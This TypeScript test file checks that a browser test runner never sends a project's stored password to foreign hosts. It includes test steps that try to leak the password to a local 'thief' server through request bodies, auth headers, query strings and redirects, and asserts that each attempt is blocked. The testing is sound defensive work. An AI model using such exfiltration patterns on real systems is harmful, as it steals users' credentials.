import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Step } from '@testkernel/sdk';
import t from 'tap';
import { openBench, testOf } from '../../plugins/runner/tests/support/bench.ts';
import { parseCode } from '../../plugins/tests/src/code/parse-code.ts';
import { printCode } from '../../plugins/tests/src/code/print-code.ts';
import { startHostileSite } from './support/hostile-site.ts';

const password = 'Correct-Horse-7!';

t.test('credentials in requests', async (t) => {
  const site = await startHostileSite();
  const thief = await startThief();
  const bench = await openBench({ url: site.url });
  t.teardown(async () => {
    await bench.close();
    await Promise.all([site.close(), thief.close()]);
  });
  const project = {
    ...bench.requestFor([]).project,
    url: site.url,
    credentials: {
      username: 'eve',
      password,
      usernameSelector: '#u',
      passwordSelector: '#p',
      submitSelector: '#s',
    },
  };
  const run = async (...steps: Step[]) => (await bench.run([testOf('A test', ...steps)], { project }))[0];
  const body = '{"password":"{{credentials.password}}"}';
  const there = `${thief.url}/collect`;

  t.test('are sent to the site of the project', async (t) => {
    const own: Step[] = [
      { action: 'request', url: '/echo', body, expected: password },
      { action: 'request', url: '/redirect?to=/echo', body, expected: password },
      { action: 'request', url: '/echo?u={{credentials.username}}', expected: '200' },
    ];
    t.match(await run(...own), { status: 'passed', error: null });
  });

  t.test('are not sent to any other', async (t) => {
    const foreign: Step[] = [
      { action: 'request', url: there, body },
      { action: 'request', url: there, headers: { authorization: 'Basic {{ credentials.password }}' } },
      { action: 'request', url: `${there}?p={{credentials.password}}` },
      { action: 'request', url: 'http://{{credentials.username}}.example.com/' },
      { action: 'navigate', url: `${there}?p={{credentials.password}}` },
    ];
    for (const step of foreign) {
      const result = await run(step);
      t.match(result, {
        status: 'failed',
        error: /The step holds credentials of the project, so nothing was sent to http/,
      });
    }
    t.strictSame(thief.seen, []);
  });

  t.test('are not redirected to any other', async (t) => {
    const to = encodeURIComponent(there);
    const away: Step[] = [
      { action: 'request', url: `/redirect?status=307&to=${to}`, body },
      {
        action: 'request',
        url: `/redirect?status=302&to=${to}`,
        headers: { 'x-password': '{{credentials.password}}' },
      },
    ];
    for (const step of away) {
      t.match(await run(step), { status: 'failed', error: /was redirected, and not sent on, to http/ });
    }
    t.strictSame(thief.seen, []);
  });

  t.test('other requests may go elsewhere, without the authorization of the site', async (t) => {
    const url = `/redirect?status=307&to=${encodeURIComponent(there)}`;
    t.match(await run({ action: 'request', url, headers: { authorization: 'Bearer x' }, body: '{}' }), {
      status: 'passed',
    });
    t.equal(thief.seen.length, 1);
    t.notMatch(thief.seen[0], /authorization/);
  });
});

t.test('names of an object’s prototype are names of columns like any other', async (t) => {
  for (const name of ['constructor', 'toString', '__proto__', 'hasOwnProperty']) {
    const steps: Step[] = [{ action: 'fill', selector: '#a', value: `{{${name}}}` }];
    const code = printCode({ name: 'A test', steps });
    t.notMatch(code, /native code|\[object/, name);
    if (name !== '__proto__') t.strictSame(parseCode(code).steps, steps, name);
  }
  for (const line of [
    "await expect(page).constructor('x');",
    'await page.constructor();',
    "await page.locator('#a').toString();",
  ]) {
    t.throws(() => parseCode(line), { code: 'UNSUPPORTED_CODE' }, line);
  }
});

/** Another origin, which keeps what it is sent. */
async function startThief(): Promise<{ url: string; seen: string[]; close(): Promise<void> }> {
  const seen: string[] = [];
  const server = http.createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += chunk;
    seen.push(JSON.stringify([request.url, request.headers, body]));
    response.end('thanks');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port }: AddressInfo = Object(server.address());
  return {
    url: `http://127.0.0.1:${port}`,
    seen,
    close: async () => {
      server.closeAllConnections();
      server.close();
    },
  };
}
